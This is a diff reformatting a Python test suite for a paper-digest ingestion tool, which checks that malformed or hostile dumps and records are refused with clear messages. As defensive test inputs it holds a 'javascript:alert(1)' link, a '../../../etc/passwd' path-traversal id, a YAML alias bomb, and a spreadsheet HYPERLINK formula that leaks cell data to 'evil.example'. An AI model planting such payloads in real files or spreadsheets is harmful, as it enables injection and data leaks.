@@ -40,15 +40,17 @@ def good_dump(tmp_path):
     return path
 
 
-@pytest.mark.parametrize("name, content, expected", [
-    ("empty.txt", b"", "empty file"),
-    ("blank.txt", b"\n  \n\n", "empty file"),
-    ("binary.bin", b"\x89PNG\r\n\x1a\n\x00\x00\x00IHDR", ":3: binary data"),
-    ("latin1.txt", f"Alpha\n{ABSTRACT}\nCaf\xe9: Serving\n".encode("latin-1"), ":3: not UTF-8 text (byte 0xe9"),
-    ("prose.txt", b"just some words\n", "found no paper entries"),
-])
-def test_unreadable_dump_stops_the_run_and_writes_nothing(tmp_path, store, good_dump, capsys, name, content,
-                                                          expected):
+@pytest.mark.parametrize(
+    "name, content, expected",
+    [
+        ("empty.txt", b"", "empty file"),
+        ("blank.txt", b"\n  \n\n", "empty file"),
+        ("binary.bin", b"\x89PNG\r\n\x1a\n\x00\x00\x00IHDR", ":3: binary data"),
+        ("latin1.txt", f"Alpha\n{ABSTRACT}\nCaf\xe9: Serving\n".encode("latin-1"), ":3: not UTF-8 text (byte 0xe9"),
+        ("prose.txt", b"just some words\n", "found no paper entries"),
+    ],
+)
+def test_unreadable_dump_stops_the_run_and_writes_nothing(tmp_path, store, good_dump, capsys, name, content, expected):
     bad = tmp_path / name
     bad.write_bytes(content)
     assert run_ingest(store, good_dump, bad) == 1
@@ -79,8 +81,11 @@ def test_bom_and_crlf_parse_like_plain_text(tmp_path, store):
 def test_bad_entries_are_skipped_and_their_neighbours_kept(tmp_path, store, capsys):
     long_line = "x" * 1_048_576
     path = tmp_path / "mixed.txt"
-    path.write_text(f"Orphan Title With No Abstract\n\nAlpha: Serving\n\n{ABSTRACT}\n\n"
-                    f"Beta: Huge\n\n{long_line}\n\nGamma: Training\n\n{ABSTRACT}\n", encoding="utf-8")
+    path.write_text(
+        f"Orphan Title With No Abstract\n\nAlpha: Serving\n\n{ABSTRACT}\n\n"
+        f"Beta: Huge\n\n{long_line}\n\nGamma: Training\n\n{ABSTRACT}\n",
+        encoding="utf-8",
+    )
     assert run_ingest(store, path) == 0
     out = capsys.readouterr().out
     assert f"skipped: {path}:1: title 'Orphan Title With No Abstract' has no abstract" in out
@@ -98,15 +103,18 @@ def test_strict_refuses_the_whole_file(tmp_path, store, good_dump, capsys):
     assert snapshot(store) == {}
 
 
-@pytest.mark.parametrize("old, new, field, expected", [
-    ("title: 'GaLore", "title: [unclosed 'GaLore", "published", "YAML syntax error"),
-    ("upvotes: 15", "upvotes: fifteen", "upvotes", "upvotes: expected a whole number"),
-    ("topics: []", "topics: offloading", "topics", "topics: expected a list"),
-    ("published: '2024-03-06'", "published: 2024-02-30", "published", "published: no such date: 2024-02-30"),
-    ("published: '2024-03-06'", "published: last spring", "published", "published: expected a date like"),
-    ("  line: ", "  line: -", "  line", "sources[0].line: must be at least 1, got -"),
-    ("sources:", "colour: blue\nsources:", "colour", "colour: unknown field"),
-])
+@pytest.mark.parametrize(
+    "old, new, field, expected",
+    [
+        ("title: 'GaLore", "title: [unclosed 'GaLore", "published", "YAML syntax error"),
+        ("upvotes: 15", "upvotes: fifteen", "upvotes", "upvotes: expected a whole number"),
+        ("topics: []", "topics: offloading", "topics", "topics: expected a list"),
+        ("published: '2024-03-06'", "published: 2024-02-30", "published", "published: no such date: 2024-02-30"),
+        ("published: '2024-03-06'", "published: last spring", "published", "published: expected a date like"),
+        ("  line: ", "  line: -", "  line", "sources[0].line: must be at least 1, got -"),
+        ("sources:", "colour: blue\nsources:", "colour", "colour: unknown field"),
+    ],
+)
 def test_broken_record_is_reported_and_ingest_refuses(store, capsys, old, new, field, expected):
     ingest([dump("002")], store, listing_year=2025)
     record = store / "papers" / "galore.yaml"
@@ -129,9 +137,11 @@ def test_broken_record_is_reported_and_ingest_refuses(store, capsys, old, new, f
 # code, from every command that reads it, and leaves the store byte for byte as it was.
 
 BAD = Path(__file__).parent / "fixtures" / "bad"
-EXPECTED_FORMATS = ("expected hf-daily-api (the JSON of the Hugging Face Daily Papers API: a list of items, each "
-                    "with its `paper`); arxiv-atom (an Atom feed of the arXiv API: one <entry> per paper); hf-daily-text "
-                    "(a text dump of a Hugging Face Daily Papers listing page: titles, abstracts, optional metadata)")
+EXPECTED_FORMATS = (
+    "expected hf-daily-api (the JSON of the Hugging Face Daily Papers API: a list of items, each "
+    "with its `paper`); arxiv-atom (an Atom feed of the arXiv API: one <entry> per paper); hf-daily-text "
+    "(a text dump of a Hugging Face Daily Papers listing page: titles, abstracts, optional metadata)"
+)
 RECORD_COMMANDS = (["check"], ["pages", "--out", "{out}"])
 
 
@@ -146,111 +156,244 @@ class Case:
 
 CASES = [
     # Junk from the wrong file: refused at the door, nothing written.
-    Case("json-object.json", "dump", f"{{file}}: looks like JSON, which no input format of the digest reads; "
-         f"{EXPECTED_FORMATS}"),
-    Case("daily-papers-page.html", "dump", "{file}: looks like HTML, which no input format of the digest reads; "
-         f"{EXPECTED_FORMATS}"),
-    Case("record-as-dump.yaml", "dump", "{file}: looks like YAML, which no input format of the digest reads; "
-         f"{EXPECTED_FORMATS}"),
+    Case(
+        "json-object.json",
+        "dump",
+        f"{{file}}: looks like JSON, which no input format of the digest reads; {EXPECTED_FORMATS}",
+    ),
+    Case(
+        "daily-papers-page.html",
+        "dump",
+        f"{{file}}: looks like HTML, which no input format of the digest reads; {EXPECTED_FORMATS}",
+    ),
+    Case(
+        "record-as-dump.yaml",
+        "dump",
+        f"{{file}}: looks like YAML, which no input format of the digest reads; {EXPECTED_FORMATS}",
+    ),
     # API answers that are broken, cut off or not what they claim: refused whole, with the reason.
-    Case("hf-api-cut-off.json", "dump", "{file}:2: the JSON ends inside item 1, which starts here: the file was cut "
-         "off; fetch or save it again"),
-    Case("hf-api-items-without-ids.json", "dump", "{file}: found no Daily Papers items with an arXiv id, a title and a "
-         "summary (item skipped: paper.id is missing, not an arXiv id); is this an answer of the Hugging Face Daily "
-         "Papers API?"),
-    Case("arxiv-listing.atom", "dump", "{file}: found no arXiv entries with an id, a title and a summary (entry "
-         "skipped: <id> is missing, not an arXiv id); is this an answer of the arXiv API?"),
-    Case("arxiv-cut-off.atom", "dump", "{file}:35: not well-formed XML (no element found): the response was cut off, "
-         "or is not an answer of the arXiv API"),
-    Case("arxiv-api-error.atom", "dump", "{file}:10: the arXiv API answered with an error: incorrect id format for "
-         "2307.0869v"),
-    Case("mostly-junk.txt", "dump", "{file}:5: 6 of 7 blocks are not paper entries (the first: title 'column 0, "
-         "value 0, another value' has no abstract: skipped); this is not a Hugging Face Daily Papers dump, or a "
-         "badly broken one, so none of it is ingested"),
-    Case("nul-past-64k.txt", "dump", "{file}:723: binary data (a NUL byte): expected a UTF-8 text dump; delete the "
-         "NUL bytes (tr -d '\\000') if the rest is text"),
-    Case("named-pipe", "fifo", "{file}: is a named pipe (FIFO), not a regular file; save the dump to a file and "
-         "ingest that"),
+    Case(
+        "hf-api-cut-off.json",
+        "dump",
+        "{file}:2: the JSON ends inside item 1, which starts here: the file was cut off; fetch or save it again",
+    ),
+    Case(
+        "hf-api-items-without-ids.json",
+        "dump",
+        "{file}: found no Daily Papers items with an arXiv id, a title and a "
+        "summary (item skipped: paper.id is missing, not an arXiv id); is this an answer of the Hugging Face Daily "
+        "Papers API?",
+    ),
+    Case(
+        "arxiv-listing.atom",
+        "dump",
+        "{file}: found no arXiv entries with an id, a title and a summary (entry "
+        "skipped: <id> is missing, not an arXiv id); is this an answer of the arXiv API?",
+    ),
+    Case(
+        "arxiv-cut-off.atom",
+        "dump",
+        "{file}:35: not well-formed XML (no element found): the response was cut off, "
+        "or is not an answer of the arXiv API",
+    ),
+    Case(
+        "arxiv-api-error.atom",
+        "dump",
+        "{file}:10: the arXiv API answered with an error: incorrect id format for 2307.0869v",
+    ),
+    Case(
+        "mostly-junk.txt",
+        "dump",
+        "{file}:5: 6 of 7 blocks are not paper entries (the first: title 'column 0, "
+        "value 0, another value' has no abstract: skipped); this is not a Hugging Face Daily Papers dump, or a "
+        "badly broken one, so none of it is ingested",
+    ),
+    Case(
+        "nul-past-64k.txt",
+        "dump",
+        "{file}:723: binary data (a NUL byte): expected a UTF-8 text dump; delete the "
+        "NUL bytes (tr -d '\\000') if the rest is text",
+    ),
+    Case(
+        "named-pipe",
+        "fifo",
+        "{file}: is a named pipe (FIFO), not a regular file; save the dump to a file and ingest that",
+    ),
     # Odd arguments: usage errors.
-    Case("no-such-store", "missing store", "{file}: no such folder; --data names a store (a folder holding papers/, "
-         "sources/, taxonomy.yaml and hardware.yaml). To start a new one: mkdir -p {file}", 2,
-         (["ingest", "--data", "{file}", str(BAD / "odd-file-name.txt")], ["check", "--data", "{file}"])),
-    Case("year-99999", "argument", "digest ingest: error: argument --listing-year: 99999 is not a listing year; give "
-         "one from 1990 to 2100", 2, (["ingest", "--listing-year", "99999", str(BAD / "odd-file-name.txt")],)),
-    Case("year-minus-5", "argument", "digest ingest: error: argument --listing-year: -5 is not a listing year; give "
-         "one from 1990 to 2100", 2, (["ingest", "--listing-year=-5", str(BAD / "odd-file-name.txt")],)),
+    Case(
+        "no-such-store",
+        "missing store",
+        "{file}: no such folder; --data names a store (a folder holding papers/, "
+        "sources/, taxonomy.yaml and hardware.yaml). To start a new one: mkdir -p {file}",
+        2,
+        (["ingest", "--data", "{file}", str(BAD / "odd-file-name.txt")], ["check", "--data", "{file}"]),
+    ),
+    Case(
+        "year-99999",
+        "argument",
+        "digest ingest: error: argument --listing-year: 99999 is not a listing year; give one from 1990 to 2100",
+        2,
+        (["ingest", "--listing-year", "99999", str(BAD / "odd-file-name.txt")],),
+    ),
+    Case(
+        "year-minus-5",
+        "argument",
+        "digest ingest: error: argument --listing-year: -5 is not a listing year; give one from 1990 to 2100",
+        2,
+        (["ingest", "--listing-year=-5", str(BAD / "odd-file-name.txt")],),
+    ),
     # Records a careless hand writes: check, the build and ingest all name the file, line and field.
-    *[Case(name, "record", message, 1, RECORD_COMMANDS) for name, message in [
-        ("control-character.yaml", "{file}:2: holds the control character U+0007, which YAML does not allow; "
-         "delete it"),
-        ("control-character-escaped.yaml", "{file}:2: title: holds the control character U+009B at position 7; "
-         "delete it"),
-        ("upvotes-5000-digits.yaml", "{file}:3: upvotes: a number of 5,000 digits is not a count; check the value"),
-        ("title-nested-1000.yaml", "{file}:2: title: expected text, got a list"),
-        ("overrides-hardware-number.yaml", "{file}:3: overrides.hardware[0]: expected text, got a whole number "
-         "'4090' (quote it: '4090')"),
-        ("overrides-system-empty.yaml", "{file}:3: overrides.system: is empty"),
-        ("overrides-gpu-count-null.yaml", "{file}:3: overrides.gpu_count[0]: expected text, got nothing (null)"),
-        ("topics-twice.yaml", "{file}:4: topics: duplicate key: YAML keeps only the last one; keep one and delete "
-         "the other"),
-        ("link-javascript.yaml", "{file}:3: links[0]: 'javascript:alert(1)' is not an http(s) address; links must "
-         "start with https:// or http://"),
-        ("alias-bomb.yaml", "{file}:2: YAML anchors and aliases (&name, *name) are not allowed here; write the "
-         "value out in full"),
-        ("invalid-yaml.yaml", "{file}:3: YAML syntax error: did not find expected ',' or ']'"),
-        ("wrong-type.yaml", "{file}:3: upvotes: expected a whole number, got a list"),
-        ("unknown-field.yaml", "{file}:3: colour: unknown field; known fields are: id, title, abstract, arxiv_id, "
-         "published, added, authors, authors_count, organization, upvotes, links, topics, tags, notes, overrides, "
-         "abstract_truncated, sources"),
-        ("arxiv-id-with-version.yaml", "{file}:3: arxiv_id: 'arXiv:2307.08691v2' is not an arXiv id without its "
-         "version; write '2307.08691'"),
-        ("arxiv-id-number.yaml", "{file}:3: arxiv_id: expected text, got a number '2307.08691' (quote it: "
-         "'2307.08691')"),
-        ("authors-not-a-list.yaml", "{file}:4: authors: expected a list, got text 'Tri Dao, Daniel Y. Fu'"),
-        ("missing-title.yaml", "{file}:1: title: missing; every entry needs id, title and abstract"),
-        ("unknown-topic.yaml", "{file}:3: topics: unknown topic 'quantum'; topics are: hardware, kernels, offloading, "
-         "other, parallelism, serving"),
-        ("id-path-traversal.yaml", "{file}:1: id: '../../../etc/passwd' is not a slug (lowercase letters, digits "
-         "and single hyphens)"),
-        ("id-of-another-record.yaml", "{file}:1: id: 'galore' does not match the file name "
-         "'id-of-another-record.yaml'; an id never changes, so rename neither"),
-    ]],
+    *[
+        Case(name, "record", message, 1, RECORD_COMMANDS)
+        for name, message in [
+            (
+                "control-character.yaml",
+                "{file}:2: holds the control character U+0007, which YAML does not allow; delete it",
+            ),
+            (
+                "control-character-escaped.yaml",
+                "{file}:2: title: holds the control character U+009B at position 7; delete it",
+            ),
+            ("upvotes-5000-digits.yaml", "{file}:3: upvotes: a number of 5,000 digits is not a count; check the value"),
+            ("title-nested-1000.yaml", "{file}:2: title: expected text, got a list"),
+            (
+                "overrides-hardware-number.yaml",
+                "{file}:3: overrides.hardware[0]: expected text, got a whole number '4090' (quote it: '4090')",
+            ),
+            ("overrides-system-empty.yaml", "{file}:3: overrides.system: is empty"),
+            ("overrides-gpu-count-null.yaml", "{file}:3: overrides.gpu_count[0]: expected text, got nothing (null)"),
+            (
+                "topics-twice.yaml",
+                "{file}:4: topics: duplicate key: YAML keeps only the last one; keep one and delete the other",
+            ),
+            (
+                "link-javascript.yaml",
+                "{file}:3: links[0]: 'javascript:alert(1)' is not an http(s) address; links must "
+                "start with https:// or http://",
+            ),
+            (
+                "alias-bomb.yaml",
+                "{file}:2: YAML anchors and aliases (&name, *name) are not allowed here; write the value out in full",
+            ),
+            ("invalid-yaml.yaml", "{file}:3: YAML syntax error: did not find expected ',' or ']'"),
+            ("wrong-type.yaml", "{file}:3: upvotes: expected a whole number, got a list"),
+            (
+                "unknown-field.yaml",
+                "{file}:3: colour: unknown field; known fields are: id, title, abstract, arxiv_id, "
+                "published, added, authors, authors_count, organization, upvotes, links, topics, tags, notes, overrides, "
+                "abstract_truncated, sources",
+            ),
+            (
+                "arxiv-id-with-version.yaml",
+                "{file}:3: arxiv_id: 'arXiv:2307.08691v2' is not an arXiv id without its version; write '2307.08691'",
+            ),
+            (
+                "arxiv-id-number.yaml",
+                "{file}:3: arxiv_id: expected text, got a number '2307.08691' (quote it: '2307.08691')",
+            ),
+            ("authors-not-a-list.yaml", "{file}:4: authors: expected a list, got text 'Tri Dao, Daniel Y. Fu'"),
+            ("missing-title.yaml", "{file}:1: title: missing; every entry needs id, title and abstract"),
+            (
+                "unknown-topic.yaml",
+                "{file}:3: topics: unknown topic 'quantum'; topics are: hardware, kernels, offloading, "
+                "other, parallelism, serving",
+            ),
+            (
+                "id-path-traversal.yaml",
+                "{file}:1: id: '../../../etc/passwd' is not a slug (lowercase letters, digits and single hyphens)",
+            ),
+            (
+                "id-of-another-record.yaml",
+                "{file}:1: id: 'galore' does not match the file name "
+                "'id-of-another-record.yaml'; an id never changes, so rename neither",
+            ),
+        ]
+    ],
     Case("record-is-a-folder.yaml", "folder record", "{file}: is a directory, not a record", 1, RECORD_COMMANDS),
     Case("record-is-a-dangling-link.yaml", "dangling record", "{file}: no such record", 1, RECORD_COMMANDS),
     # Issue 21: what hung, crashed or slipped through, refused in one line.
-    *[Case(name, "record", message, 1, RECORD_COMMANDS) for name, message in [
-        ("arxiv-id-unicode-digits.yaml", "{file}:3: arxiv_id: '２３０７.０８６９１' is not an arXiv id without its version; "
-         "like '2307.08691', or 'hep-th/9901001' for an older paper"),
-        ("record-nested-100000.yaml", "{file}:3: lists and mappings nested more than 1,500 deep; no record, taxonomy "
-         "or catalogue needs that: check the file"),
-        ("published-9999.yaml", "{file}:3: published: 9999-12-31 is after next year ({next_year}); write the day it "
-         "was published, or null when unknown"),
-        ("tag-without-a-letter.yaml", "{file}:3: tags[1]: '_': a tag needs a letter or a digit to name its page"),
-    ]],
-    Case("record-is-a-fifo.yaml", "fifo record", "{file}: is a named pipe (FIFO), not a regular file; a record is a "
-         "YAML file: delete it, or replace it with the file", 1,
-         # accept and reject read only the records they name: named, the FIFO is refused
-         (*RECORD_COMMANDS, ["accept", "record-is-a-fifo", "--topics", "kernels"],
-          ["reject", "record-is-a-fifo", "--by", "curator"], ["review"])),
-    Case("hf-api-nested-1000.json", "dump", "{file}:2: item 1 nests lists or objects about 1,000 deep, which no API's "
-         "answer does"),
-    Case("hf-api-5001-digits.json", "dump", "{file}:2: item 1 holds a number of 5,001 digits, which no field of an "
-         "API's answer has: not an API's answer"),
-    *[Case(name, "argument", f"digest fetch hf-daily: error: argument {option}: {message}", 2,
-           (["fetch", "hf-daily", "--data", "{data}", option, value],))
-      for name, option, value, message in [
-          ("timeout-nan", "--timeout", "nan", "nan is not a number"),
-          ("timeout-inf", "--timeout", "inf", "inf is not a number"),
-          ("retries-huge", "--retries", "1e400", "invalid number: '1e400'"),
-          ("since-9999", "--since", "9999-12-31", "9999-12-31 is not a day from 1990 to 2100"),
-          ("date-feb-30", "--date", "2025-02-30", "'2025-02-30' is not a day like 2025-03-06"),
-      ]],
-    Case("explain-a-path", "command", "no paper with id '../papers/flashattention-2'; an id is a record's file name "
-         "in {data}/papers without .yaml", 2, (["explain", "--data", "{data}", "--", "../papers/flashattention-2"],)),
-    Case("taxonomy-broken.yaml", "taxonomy", "{file}:5: YAML syntax error: did not find expected ',' or ']'", 1,
-         RECORD_COMMANDS),
-    Case("hardware-broken.yaml", "hardware", "{file}:1: hardware[0].class: missing; every entry needs name, aliases, "
-         "vendor and class", 1, RECORD_COMMANDS),
+    *[
+        Case(name, "record", message, 1, RECORD_COMMANDS)
+        for name, message in [
+            (
+                "arxiv-id-unicode-digits.yaml",
+                "{file}:3: arxiv_id: '２３０７.０８６９１' is not an arXiv id without its version; "
+                "like '2307.08691', or 'hep-th/9901001' for an older paper",
+            ),
+            (
+                "record-nested-100000.yaml",
+                "{file}:3: lists and mappings nested more than 1,500 deep; no record, taxonomy "
+                "or catalogue needs that: check the file",
+            ),
+            (
+                "published-9999.yaml",
+                "{file}:3: published: 9999-12-31 is after next year ({next_year}); write the day it "
+                "was published, or null when unknown",
+            ),
+            ("tag-without-a-letter.yaml", "{file}:3: tags[1]: '_': a tag needs a letter or a digit to name its page"),
+        ]
+    ],
+    Case(
+        "record-is-a-fifo.yaml",
+        "fifo record",
+        "{file}: is a named pipe (FIFO), not a regular file; a record is a "
+        "YAML file: delete it, or replace it with the file",
+        1,
+        # accept and reject read only the records they name: named, the FIFO is refused
+        (
+            *RECORD_COMMANDS,
+            ["accept", "record-is-a-fifo", "--topics", "kernels"],
+            ["reject", "record-is-a-fifo", "--by", "curator"],
+            ["review"],
+        ),
+    ),
+    Case(
+        "hf-api-nested-1000.json",
+        "dump",
+        "{file}:2: item 1 nests lists or objects about 1,000 deep, which no API's answer does",
+    ),
+    Case(
+        "hf-api-5001-digits.json",
+        "dump",
+        "{file}:2: item 1 holds a number of 5,001 digits, which no field of an API's answer has: not an API's answer",
+    ),
+    *[
+        Case(
+            name,
+            "argument",
+            f"digest fetch hf-daily: error: argument {option}: {message}",
+            2,
+            (["fetch", "hf-daily", "--data", "{data}", option, value],),
+        )
+        for name, option, value, message in [
+            ("timeout-nan", "--timeout", "nan", "nan is not a number"),
+            ("timeout-inf", "--timeout", "inf", "inf is not a number"),
+            ("retries-huge", "--retries", "1e400", "invalid number: '1e400'"),
+            ("since-9999", "--since", "9999-12-31", "9999-12-31 is not a day from 1990 to 2100"),
+            ("date-feb-30", "--date", "2025-02-30", "'2025-02-30' is not a day like 2025-03-06"),
+        ]
+    ],
+    Case(
+        "explain-a-path",
+        "command",
+        "no paper with id '../papers/flashattention-2'; an id is a record's file name in {data}/papers without .yaml",
+        2,
+        (["explain", "--data", "{data}", "--", "../papers/flashattention-2"],),
+    ),
+    Case(
+        "taxonomy-broken.yaml",
+        "taxonomy",
+        "{file}:5: YAML syntax error: did not find expected ',' or ']'",
+        1,
+        RECORD_COMMANDS,
+    ),
+    Case(
+        "hardware-broken.yaml",
+        "hardware",
+        "{file}:1: hardware[0].class: missing; every entry needs name, aliases, vendor and class",
+        1,
+        RECORD_COMMANDS,
+    ),
 ]
 
 
@@ -266,13 +409,19 @@ def small_store(folder: Path) -> Path:
 def place(case: Case, store: Path, tmp_path: Path) -> Path:
     """Put the case where it does its harm; return the path its message names."""
     source = BAD / case.file
-    targets = {"record": store / "papers" / case.file, "taxonomy": store / "taxonomy.yaml",
-               "hardware": store / "hardware.yaml"}
+    targets = {
+        "record": store / "papers" / case.file,
+        "taxonomy": store / "taxonomy.yaml",
+        "hardware": store / "hardware.yaml",
+    }
     if case.place in targets:
         shutil.copy(source, targets[case.place])
         return targets[case.place]
-    path = {"folder record": store / "papers" / case.file, "dangling record": store / "papers" / case.file,
-            "dump": source}.get(case.place, tmp_path / case.file)
+    path = {
+        "folder record": store / "papers" / case.file,
+        "dangling record": store / "papers" / case.file,
+        "dump": source,
+    }.get(case.place, tmp_path / case.file)
     if case.place == "fifo":
         os.mkfifo(path)
     elif case.place == "fifo record":
@@ -332,9 +481,11 @@ def tree_hash(folder: Path) -> str:
 # ------------------------------------------------------------------------------------------------
 # The cases of the issue that now work: nothing lost, nothing written that check refuses.
 
+
 def ingest_fixture(store: Path, *names: str, capsys) -> tuple[int, str]:
-    code, lines = run_digest(["ingest", "--data", str(store), "--listing-year", "2025",
-                              *(str(BAD / name) for name in names)], capsys)
+    code, lines = run_digest(
+        ["ingest", "--data", str(store), "--listing-year", "2025", *(str(BAD / name) for name in names)], capsys
+    )
     return code, "\n".join(lines)
 
 
@@ -351,8 +502,10 @@ def test_an_api_answer_once_refused_at_the_door_now_ingests_with_its_arxiv_id(st
 def test_titles_without_letters_are_named_by_their_abstracts(store, capsys):
     code, out = ingest_fixture(store, "titles-without-letters.txt", capsys=capsys)
     papers = {paper.id: paper for paper in load_papers(store)}
-    assert code == 0 and sorted(papers) == ["we-present-alpha-a-system-that-serves-large",
-                                            "we-study-speculative-decoding-for-serving-language-models"]
+    assert code == 0 and sorted(papers) == [
+        "we-present-alpha-a-system-that-serves-large",
+        "we-study-speculative-decoding-for-serving-language-models",
+    ]
     assert [papers[pid].title for pid in sorted(papers)] == ["?!?!...", "---***---"]
     assert "titles-without-letters.txt:9: title '🚀🚀🚀' has no abstract: skipped" in out
     assert "2 new, 0 updated, 0 unchanged, 2 skipped" in out
@@ -364,8 +517,14 @@ def test_titles_without_letters_are_named_by_their_abstracts(store, capsys):
 
 def test_a_cut_off_abstract_is_marked_and_the_whole_text_replaces_it(store, capsys):
     code, out = ingest_fixture(store, "cut-off-dump.txt", capsys=capsys)
-    assert code == 0 and ("note: " + str(BAD / "cut-off-dump.txt") + ":7: the file ends inside the abstract of "
-                          "'Beta: Training': kept, marked as cut off; a later dump with the whole text replaces it") in out
+    assert (
+        code == 0
+        and (
+            "note: " + str(BAD / "cut-off-dump.txt") + ":7: the file ends inside the abstract of "
+            "'Beta: Training': kept, marked as cut off; a later dump with the whole text replaces it"
+        )
+        in out
+    )
     beta = yaml.safe_load(paper_path(store, "beta").read_text())
     assert beta["abstract_truncated"] is True and beta["abstract"].endswith("https://github.com/beta")
     assert beta["links"] == []  # half an address is no link
@@ -405,7 +564,7 @@ def test_csv_cells_that_a_spreadsheet_would_run_are_neutralised(tmp_path, capsys
     assert run_digest(["pages", "--data", str(store), "--out", str(tmp_path / "out")], capsys)[0] == 0
     rows = {row["id"]: row for row in csv.DictReader((tmp_path / "out" / "papers.csv").open(encoding="utf-8"))}
     row = rows["csv-injection"]
-    assert row["title"] == "'=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")"
+    assert row["title"] == '\'=HYPERLINK("http://evil.example/?"&A1,"Click")'
     assert (row["system"], row["headline"]) == ("'@SUM(1+1)", "'-2+3")
     assert all(not value.startswith(("=", "+", "-", "@")) for row in rows.values() for value in row.values())
 
@@ -416,8 +575,10 @@ def test_a_read_only_papers_folder_changes_nothing(store, capsys):
     with read_only(store / "papers"):
         code, out = ingest_fixture(store, "cut-off-dump-complete.txt", capsys=capsys)
     reason = "Operation not permitted" if os.geteuid() == 0 else "Permission denied"  # chattr +i, or mode 555
-    assert code == 1 and out.endswith(f"error: {store / 'papers'}: cannot write here ({reason}); nothing was "
-                                      "written: make the folder writable and run the command again")
+    assert code == 1 and out.endswith(
+        f"error: {store / 'papers'}: cannot write here ({reason}); nothing was "
+        "written: make the folder writable and run the command again"
+    )
     assert tree_hash(store) == before  # the dump copy did not go into sources/ either
     assert ingest_fixture(store, "cut-off-dump-complete.txt", capsys=capsys)[0] == 0  # writable again: it works
 
@@ -435,12 +596,21 @@ def read_only(folder: Path):
         subprocess.run(["chattr", "-i", str(folder)], check=True) if root else folder.chmod(0o755)
 
 
-@pytest.mark.parametrize("command, message", [
-    (["ingest", "--listing-year", "2025", "{dump}"], "{store}: cannot stage sources/{dump.name} (File too large); "
-     "nothing was written"),
-    (["pages", "--out", "{out}"], "{out}: cannot write the pages (File too large); what is there is incomplete: "
-     "free the space or pick another --out, and run it again"),
-], ids=["ingest", "pages"])
+@pytest.mark.parametrize(
+    "command, message",
+    [
+        (
+            ["ingest", "--listing-year", "2025", "{dump}"],
+            "{store}: cannot stage sources/{dump.name} (File too large); nothing was written",
+        ),
+        (
+            ["pages", "--out", "{out}"],
+            "{out}: cannot write the pages (File too large); what is there is incomplete: "
+            "free the space or pick another --out, and run it again",
+        ),
+    ],
+    ids=["ingest", "pages"],
+)
 def test_a_full_disk_gives_a_message_and_no_partial_write(tmp_path, command, message):
     """The disk fills up while writing: the process may write no byte past 2 KiB per file
     (RLIMIT_FSIZE, as a full disk refuses the write), and says so in one line."""
@@ -454,8 +624,14 @@ def test_a_full_disk_gives_a_message_and_no_partial_write(tmp_path, command, mes
         signal.signal(signal.SIGXFSZ, signal.SIG_IGN)  # a failed write, not a killed process
         resource.setrlimit(resource.RLIMIT_FSIZE, (2048, 2048))
 
-    result = subprocess.run([sys.executable, "-m", "digest.cli", args[0], "--data", str(store), *args[1:]],
-                            capture_output=True, text=True, preexec_fn=small_files, check=False, timeout=120)
+    result = subprocess.run(
+        [sys.executable, "-m", "digest.cli", args[0], "--data", str(store), *args[1:]],
+        capture_output=True,
+        text=True,
+        preexec_fn=small_files,
+        check=False,
+        timeout=120,
+    )
     assert result.returncode == 1 and "Traceback" not in result.stderr
     names = {"store": store, "dump": new_dump, "out": tmp_path / "out"}
     assert result.stderr.strip().splitlines()[-1] == "error: " + message.format(**names)
@@ -464,8 +640,16 @@ def test_a_full_disk_gives_a_message_and_no_partial_write(tmp_path, command, mes
 
 
 @pytest.mark.build
-@pytest.mark.parametrize("name", ["unknown-topic.yaml", "alias-bomb.yaml", "taxonomy-broken.yaml", "record-nested-100000.yaml",
-                                  "hardware-broken.yaml"])
+@pytest.mark.parametrize(
+    "name",
+    [
+        "unknown-topic.yaml",
+        "alias-bomb.yaml",
+        "taxonomy-broken.yaml",
+        "record-nested-100000.yaml",
+        "hardware-broken.yaml",
+    ],
+)
 def test_mkdocs_build_stops_with_the_line_check_prints(tmp_path, name):
     """The gen-files script, run by a real `mkdocs build`: check's line, exit 1, no traceback."""
     case = next(case for case in CASES if case.file == name)
@@ -485,8 +669,10 @@ def test_a_cut_off_abstract_with_curated_sentence_roles_stays_and_says_why(store
     path = paper_path(store, "beta")
     record = yaml.safe_load(path.read_text())
     roles = ["own"] * len(split_sentences(record["abstract"]))
-    path.write_text(path.read_text().replace("overrides: {}", "overrides:\n  sentence_roles: [" + ", ".join(roles) +
-                                             "]"), encoding="utf-8")
+    path.write_text(
+        path.read_text().replace("overrides: {}", "overrides:\n  sentence_roles: [" + ", ".join(roles) + "]"),
+        encoding="utf-8",
+    )
     assert check_store(store) == []
     code, out = ingest_fixture(store, "cut-off-dump-complete.txt", capsys=capsys)
     assert code == 0 and "beta: a longer abstract is listed here, but the record's sentence_roles are curated" in out
